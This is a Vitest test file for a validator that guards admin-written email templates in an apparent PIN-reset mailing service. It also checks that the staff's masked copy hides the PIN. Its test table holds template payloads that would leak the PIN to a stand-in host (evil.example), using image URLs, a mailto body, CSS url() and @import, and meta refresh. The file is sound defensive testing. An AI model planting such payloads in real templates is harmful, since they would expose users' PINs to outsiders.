// Issue 13.5: an admin-written template can neither send the PIN anywhere nor print it so that
// the masked copy staff see keeps it. The validator is the gate in front of every saved version;
// the masked copy is rendered with a placeholder PIN. Pure code, the real renderer.
import { describe, expect, it } from "vitest";
import { loadDefaultTemplates } from "../../src/reply/load-default-templates.js";
import { createRenderer } from "../../src/reply/render.js";
import type { TemplateName } from "../../src/reply/template-catalog.js";
import type { TemplateSource } from "../../src/reply/template-file.js";
import { validateTemplate, type LinkPolicy } from "../../src/reply/validate-template.js";
import { composeReply } from "../../src/outbox/queue-reply.js";
import { strongSecret } from "../harness/secrets.js";

const defaults = loadDefaultTemplates();
const partials = defaults.partials;

const base: TemplateSource = {
  subject: "Your PIN ({{ reference }})",
  html: "<p>Hello {{ firstName }} {{ lastName }}</p>\n<p>\nPIN: {{ pin }}\n</p>\n<p>Expires {{ pinExpiresAt }} ({{ reference }})</p>",
  text: "Hello {{ firstName }} {{ lastName }}\n\nPIN: {{ pin }}\n\nExpires {{ pinExpiresAt }} {{ reference }}",
};
const policy: LinkPolicy = { portalUrl: "https://portal.example.org/sign-in", webPublicUrl: "https://pinmail.example.org" };
const errorsOf = async (source: Partial<TemplateSource>, links: LinkPolicy = policy) => {
  const r = await validateTemplate("pin-issued", { ...base, ...source }, partials, links);
  return r.ok ? [] : r.errors;
};
const withHtml = (extra: string) => ({ html: `${base.html}\n${extra}` });

describe("the validator refuses templates that leak or split the PIN", () => {
  it("accepts the plain template and links to PORTAL_URL's and WEB_PUBLIC_URL's hosts and mailto:", async () => {
    expect(await errorsOf({})).toEqual([]);
    expect(
      await errorsOf(
        withHtml(
          '<p><a href="{{ portalUrl }}">portal</a> <a href="https://pinmail.example.org/help">help</a> <a href="mailto:{{ supportAddress }}">write</a></p>',
        ),
      ),
    ).toEqual([]);
  });

  it.each([
    ["the PIN in an image URL to an outside host", withHtml('<img src="https://evil.example/p.gif?{{ pin }}">')],
    ["the PIN in halves with slice", withHtml("<p>{{ pin | slice: 0, 4 }}</p>\n<p>{{ pin | slice: 4, 4 }}</p>")],
    ["a filter on the PIN line", { html: base.html.replace("PIN: {{ pin }}", "PIN: {{ pin | upcase }}") }],
    ["a computed lookup of the PIN", withHtml('{% assign k = "pin" %}<p>{{ [k] }}</p>')],
    ["the PIN line captured and re-printed", withHtml("{% capture x %}\nPIN: {{ pin }}\n{% endcapture %}<p>{{ x | slice: 5, 4 }}</p>")],
    ["the PIN assigned to another name", withHtml("{% assign p = pin %}<p>{{ p }}</p>")],
    ["the PIN in the subject", { subject: "PIN: {{ pin }}" }],
    ["the PIN line inside a link's address", withHtml('<a href="mailto:x@evil.example?body=\nPIN: {{ pin }}\n">x</a>')],
    ["an image from an outside host", withHtml('<img src="https://tracker.example/open.gif">')],
    ["a link to another host", withHtml('<a href="https://evil.example/reset">reset</a>')],
    ["a relative link", withHtml('<a href="/reset">reset</a>')],
    ["CSS url()", withHtml('<p style="background:url(https://evil.example/x.png)">x</p>')],
    ["CSS @import in a style block", withHtml("<style>@import 'https://evil.example/x.css';</style>")],
    ["a stylesheet link", withHtml('<link rel="stylesheet" href="https://evil.example/x.css">')],
    ["a meta refresh", withHtml('<meta http-equiv="refresh" content="0;url=https://evil.example/">')],
    ["an outside link in the text part", { text: `${base.text}\nhttps://evil.example/reset` }],
  ])("%s", async (_what, source) => {
    const errors = await errorsOf(source as Partial<TemplateSource>);
    expect(errors.length).toBeGreaterThan(0);
  });

  it("the shipped default templates pass under a configured PORTAL_URL", async () => {
    for (const [key, source] of defaults.templates) {
      const name = key.split(".")[0] as TemplateName;
      const r = await validateTemplate(name, source, partials, policy);
      expect(r, key).toEqual({ ok: true });
    }
  });
});

describe("the masked copy is rendered with a placeholder PIN", () => {
  it("a stored template that prints the PIN in halves (saved before the rule) leaves no half in the staff copy", async () => {
    const split: TemplateSource = {
      subject: "Your PIN",
      html: "<p>\nPIN: {{ pin }}\n</p><p>first half {{ pin | slice: 0, 4 }}</p><p>second half {{ pin | slice: 4, 4 }}</p>",
      text: "PIN: {{ pin }}\nfirst half {{ pin | slice: 0, 4 }}\nsecond half {{ pin | slice: 4, 4 }}",
    };
    const pin = "73915264";
    const row = await composeReply(
      split,
      { renderer: createRenderer(partials) },
      {
        request: { id: 1, reference: "PM-261206-AAAA", subject: "PIN Reset", messageId: null },
        userId: 1,
        template: "pin-issued",
        locale: "en",
        to: "maria.santos@northwind.test",
        facts: {
          locale: "en",
          reference: "PM-261206-AAAA",
          person: { firstName: "Maria", lastName: "Santos", organizationName: null },
          pin,
          pinExpiresAt: new Date("2026-12-20T17:00:00Z"),
        },
        purpose: "reply",
        dedupeKey: "1:reply",
        ownDomain: "pinmail.test",
        pinSecret: strongSecret(),
      },
    );
    for (const copy of [row.maskedText, row.maskedHtml]) {
      expect(copy).not.toContain("7391");
      expect(copy).not.toContain("5264");
      expect(copy).toContain("PIN: ••••••••");
    }
  });
});
